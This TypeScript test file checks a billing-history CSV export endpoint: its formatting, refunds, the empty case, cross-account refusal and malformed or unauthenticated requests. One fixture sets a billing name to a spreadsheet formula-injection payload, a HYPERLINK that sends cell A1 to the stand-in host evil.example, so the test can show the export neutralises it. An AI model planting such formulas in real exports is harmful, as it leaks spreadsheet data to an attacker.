import { randomUUID } from 'node:crypto';
import { startCheckout, subscribe } from '../../../__tests__/support/accounts';
import { startBff, type Bff, type User } from '../../../__tests__/support/bff';
import type { Invoice } from '../../get-invoices/contract';

// The billing history as a CSV file (get-invoices-csv) through the local API server against the
// emulators, as a bookkeeper receives it: the rows get-invoices lists (a checkout never paid left out),
// RFC 4180 records ending in CRLF, the file's type and name; a formula-looking billing name never
// reaches a spreadsheet as a formula; another account's uid is refused, errors stay JSON.

let bff: Bff;
beforeAll(async () => {
  bff = await startBff();
});
afterAll(() => bff?.stop());

const HEADER = 'Date,Number,Status,Currency,Amount due,Amount paid,Amount refunded,Receipt link';

interface FileAnswer {
  status: number;
  type: string | null;
  disposition: string | null;
  text: string;
}

async function csvOf(user: User | undefined, query: Record<string, string>): Promise<FileAnswer> {
  const url = new URL(`${bff.info.api}/get-invoices-csv`);
  for (const [k, v] of Object.entries(query)) url.searchParams.set(k, v);
  const res = await fetch(url, { headers: user ? { authorization: `Bearer ${user.token}` } : {} });
  return {
    status: res.status,
    type: res.headers.get('content-type'),
    disposition: res.headers.get('content-disposition'),
    text: await res.text(),
  };
}

/** RFC 4180's records and fields, quotes undone (a reader's view of the file). */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let fields: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted && ch === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (quoted && ch === '"') {
      quoted = false;
    } else if (quoted) {
      field += ch;
    } else if (ch === '"') {
      quoted = true;
    } else if (ch === ',') {
      fields.push(field);
      field = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      fields.push(field);
      records.push(fields);
      fields = [];
      field = '';
      i++;
    } else {
      field += ch;
    }
  }
  expect({ unterminated: field || fields.length > 0 }).toEqual({ unterminated: false });
  return records;
}

const today = () => new Date().toISOString().slice(0, 10);

it('writes a buyer’s two paid invoices and a refund as the billing history lists them, in a CSV file', async () => {
  const { user, customerId, subscriptionId } = await subscribe(bff, 2);
  // A billing name that a spreadsheet would run as a formula, were it ever written as it is.
  const details = await bff.call('PUT', 'billing-details', {
    user,
    headers: { 'idempotency-key': randomUUID() },
    body: {
      customerId,
      companyName: '=HYPERLINK("https://evil.example/?"&A1,"Open")',
      address: { line1: '@SUM(1+1)', city: '+Springfield', postalCode: '12345', country: 'US', state: 'IL' },
    },
  });
  expect(details.status).toBe(200);
  const add = await bff.call('PUT', 'add-licenses', { user, body: { customerId, subscriptionId, count: 1 } });
  expect(add.status).toBe(200);
  // Part of the first payment goes back (a refund in Stripe's Dashboard).
  const first = (await bff.stripe.paymentIntents.list({ customer: customerId })).data.find(
    (p) => p.amount_received === 3000,
  );
  await bff.stripe.refunds.create({ payment_intent: String(first?.id), amount: 1000 });

  const before = today();
  const file = await csvOf(user, { uid: user.uid });
  const after = today();
  expect(file.status).toBe(200);
  expect(file.type).toBe('text/csv; charset=utf-8');
  expect([before, after].map((d) => `attachment; filename="stockbench-billing-history-${d}.csv"`)).toContain(
    file.disposition,
  );
  expect(file.text.startsWith(`${HEADER}\r\n`)).toBe(true);
  expect(file.text.endsWith('\r\n')).toBe(true);

  const listed = (await bff.call('GET', 'get-invoices', { user })).body.invoices as Invoice[];
  expect(listed).toHaveLength(2);
  const [header, ...rows] = parseCsv(file.text);
  expect(header?.join(',')).toBe(HEADER);
  const day = (i: Invoice) => new Date(i.created * 1000).toISOString().slice(0, 10);
  const [added, bought] = listed as [Invoice, Invoice];
  expect(rows).toEqual([
    [
      day(added),
      added.number,
      'paid',
      'USD',
      (added.amountDue / 100).toFixed(2),
      (added.amountPaid / 100).toFixed(2),
      '0.00',
      added.hostedInvoiceUrl,
    ],
    [day(bought), bought.number, 'paid', 'USD', '30.00', '30.00', '10.00', bought.hostedInvoiceUrl],
  ]);
  expect(bought.number).toMatch(/^EMU-\d{6}$/);
  expect(bought.hostedInvoiceUrl).toBe(`${bff.info.stripeApi}/invoices/${bought.id}`);
  // No field would start a formula in a spreadsheet.
  expect(rows.flat().filter((f) => /^[=+\-@\t\r]/.test(f))).toEqual([]);
  expect(file.text).not.toMatch(/(^|,)[=+\-@]/m);
});

it('writes the header alone before a purchase and for a checkout never paid, as the history lists nothing', async () => {
  const user = await bff.newUser();
  const none = await csvOf(user, { uid: user.uid });
  expect([none.status, none.type, none.text]).toEqual([200, 'text/csv; charset=utf-8', `${HEADER}\r\n`]);
  await startCheckout(bff, user, 1);
  expect((await csvOf(user, { uid: user.uid })).text).toBe(`${HEADER}\r\n`);
});

it("refuses another account's uid with a JSON 403 and writes none of its invoices", async () => {
  const victim = await subscribe(bff, 1);
  const attacker = await bff.newUser();
  const res = await csvOf(attacker, { uid: victim.user.uid });
  expect(res.status).toBe(403);
  expect(res.type).toMatch(/^application\/json/);
  expect(res.disposition).toBeNull();
  expect(JSON.parse(res.text)).toEqual({
    error: { code: 'FORBIDDEN', message: 'The uid is not the signed-in user.' },
  });
  expect(res.text).not.toContain(victim.subscriptionId);
});

it('answers 400 JSON for a malformed query and 401 without a token', async () => {
  const user = await bff.newUser();
  const queries: Record<string, string>[] = [
    {},
    { uid: '' },
    { uid: user.uid, subscriptionId: 'sub_1' },
    { uid: 'a b' },
  ];
  for (const query of queries) {
    const res = await csvOf(user, query);
    expect({
      query,
      status: res.status,
      type: res.type,
      code: (JSON.parse(res.text) as { error?: { code?: string } }).error?.code,
    }).toEqual({
      query,
      status: 400,
      type: expect.stringMatching(/^application\/json/) as unknown,
      code: 'INVALID_REQUEST',
    });
  }
  const anonymous = await csvOf(undefined, { uid: user.uid });
  expect(anonymous.status).toBe(401);
  expect(JSON.parse(anonymous.text)).toEqual({ message: 'Unauthorized' });
});
